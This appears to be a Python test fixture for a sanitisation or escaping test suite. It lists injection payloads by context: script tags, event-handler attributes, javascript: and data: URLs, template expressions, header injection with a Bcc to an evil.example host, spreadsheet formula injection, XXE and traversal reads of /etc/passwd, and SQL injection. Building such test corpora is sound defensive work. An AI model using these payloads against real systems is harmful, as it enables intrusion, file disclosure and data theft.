"""
Strings that somebody outside may write wherever they can write anything, by what they try to become. Each holds MARK,
so that a parser's tree tells whether it is still text. To try another place, add it to the places of the test.
"""

from dataclasses import dataclass

MARK = "zqliv"
PRODUCT = str(1337 * 7331)
"""What the template attacks come to, if anything works them out."""


@dataclass(frozen=True, slots=True)
class Attack:
    kind: str
    text: str


_TEXTS: dict[str, tuple[str, ...]] = {
    "tag": (
        "<script>zqliv(1)</script>",
        "<ScRiPt/x>zqliv(2)</sCrIpT >",
        "<img src=x onerror=zqliv(3)>",
        "<svg/onload=zqliv(4)>",
        "<svg><script>zqliv&#40;5&#41;</script></svg>",
        "<iframe srcdoc='<script>zqliv(6)</script>'></iframe>",
        "<math><mtext><table><mglyph><style><img src=x onerror=zqliv(7)>",
        "<zqliv-element onclick=1>",
        "<base href=//zqliv.example/>",
        "<meta http-equiv=refresh content='0;url=//zqliv.example'>",
        "<form action=//zqliv.example><input name=password>",
        "</title></textarea></style></script><script>zqliv(8)</script>",
        "</bdi></span></a></h1></p></dd></td><script>zqliv(9)</script>",
        "<!--><script>zqliv(10)</script>-->",
        "<!-- zqliv",
        "<![CDATA[<script>zqliv(11)</script>]]>",
        "<x<script>zqliv(12)</script>",
        "\uff1cscript\uff1ezqliv(13)\uff1c/script\uff1e",
        "+ADw-script+AD4-zqliv(14)+ADw-/script+AD4-",
        "&lt;script&gt;zqliv(15)&lt;/script&gt;",
        "&#60;script&#62;zqliv(16)&#60;/script&#62;",
        "%3Cscript%3Ezqliv(17)%3C/script%3E",
    ),
    "attribute": (
        '" onmouseover="zqliv(20)" x="',
        "' onfocus='zqliv(21)' autofocus x='",
        "` onclick=zqliv(22) x=`",
        "x onpointerenter=zqliv(23)",
        '"><script>zqliv(24)</script>',
        "'><img src=x onerror=zqliv(25)>",
        '" style="background:url(//zqliv.example)" x="',
        '"/zqliv="1',
        '\\" onmouseover=\\"zqliv(26)',
        "&quot; onclick=&quot;zqliv(27)",
    ),
    "address": (
        "javascript:zqliv(30)",
        "JaVaScRiPt:zqliv(31)",
        "java\tscript:zqliv(32)",
        " javascript:zqliv(33)",
        "\x01javascript:zqliv(34)",
        "javascript://example.org/%0azqliv(35)",
        "vbscript:zqliv(36)",
        "data:text/html,<script>zqliv(37)</script>",
        "data:text/html;base64,PHNjcmlwdD56cWxpdigxKTwvc2NyaXB0Pg==#zqliv",
        "//zqliv.example/x",
        "https:zqliv.example\\@x",
        "http://user:zqliv@example.org/",
        "mailto:a@example.org?bcc=zqliv@example.org",
        "file:///etc/passwd#zqliv",
    ),
    "template": (
        "{{1337*7331}} zqliv",
        "{% if 1 %}{{ 1337*7331 }}{% endif %} zqliv",
        "${1337*7331} #{1337*7331} <%= 1337*7331 %> zqliv",
        "{{ config.SECRET_KEY }} zqliv",
        "%(zqliv)s %s %d {zqliv} {0} {0.__class__}",
    ),
    "style": (
        "</style><script>zqliv(40)</script>",
        "x:expression(zqliv(41))",
        "url(javascript:zqliv(42))",
        "}} body{background:url(//zqliv.example)} {{",
    ),
    "direction": (
        "\u202egpj.exe zqliv",
        "a\u2066b\u202ezqliv",
        "\u200fzqliv\u200e\u061c",
        "zqliv\u2069\u2069\u202c\u202d",
        "z\u0336\u0337\u0338" * 20 + "zqliv",
        "\u200bzq\u200dliv zqliv\ufeff",
    ),
    "control": (
        "zqliv\0<script>zqliv(50)</script>",
        "zqliv\x1b[31mred\x07\x08\x7f",
        "zqliv\x0b\x0c\x1c\x85\u2028\u2029x",
        "zqliv\ufffe\uffff",
    ),
    "header": (
        "zqliv\r\nBcc: zqliv@evil.example\r\n\r\nbody",
        "zqliv\nSet-Cookie: zqliv=1",
        "zqliv%0d%0aLocation:%20//zqliv.example",
        "=?utf-8?q?zqliv=0D=0ABcc:_x@evil.example?=",
    ),
    "formula": (
        "=HYPERLINK(\"//zqliv.example\",\"x\")",
        "+zqliv|' /C calc'!A0",
        "-1+zqliv|' /C calc'!A0",
        "@SUM(zqliv)",
        "\t=zqliv()",
        "\r=zqliv()",
        "\uff1dzqliv()",
        "x;=zqliv();y",
        "x\",=zqliv(),\"",
        "x\n=zqliv()",
    ),
    "json": (
        "</script><script>zqliv(60)</script>",
        "<!--<script>zqliv(61)",
        "\u2028zqliv(62)\u2029",
        '"};zqliv(63);//',
        '\\u003c/script\\u003e zqliv',
        '{"@context":"//zqliv.example","@id":"x"}',
    ),
    "xml": (
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>zqliv(70)</script>",
        "<!DOCTYPE x [<!ENTITY zqliv SYSTEM 'file:///etc/passwd'>]>&zqliv;",
        "<?xml-stylesheet href='//zqliv.example'?>",
        "<x:zqliv xmlns:x='urn:x'/>",
        "&zqliv; &#0; &#x1;",
    ),
    "query": (
        "' OR '1'='1' -- zqliv",
        '" } UNION { ?s ?p ?o } # zqliv',
        "zqliv:* AND (a OR [x TO y] \\",
        "../../../../etc/passwd#zqliv",
    ),
}  # fmt: skip
ATTACKS = tuple(Attack(kind, text) for kind, texts in _TEXTS.items() for text in texts)

IRIS = (
    "javascript:zqliv(1)",
    "JAVASCRIPT:zqliv(2)",
    "vbscript:zqliv(3)",
    "data:text/html,zqliv(4)",
    "data:text/html;base64,PHNjcmlwdD56cWxpdigxKTwvc2NyaXB0Pg==",
    "blob:https://zqliv.example/1",
    "file:///etc/zqliv",
    "https://user:zqliv@example.org/",
    "https://example.org/?a='-zqliv(5)-'&b=1",
    "https://example.org/#';zqliv(6)//",
    "mailto:a@example.org?bcc=zqliv@example.org",
    "tel:1;phone-context=javascript:zqliv(7)",
)
"""What may stand as an IRI in RDF, where quotes and brackets may not."""
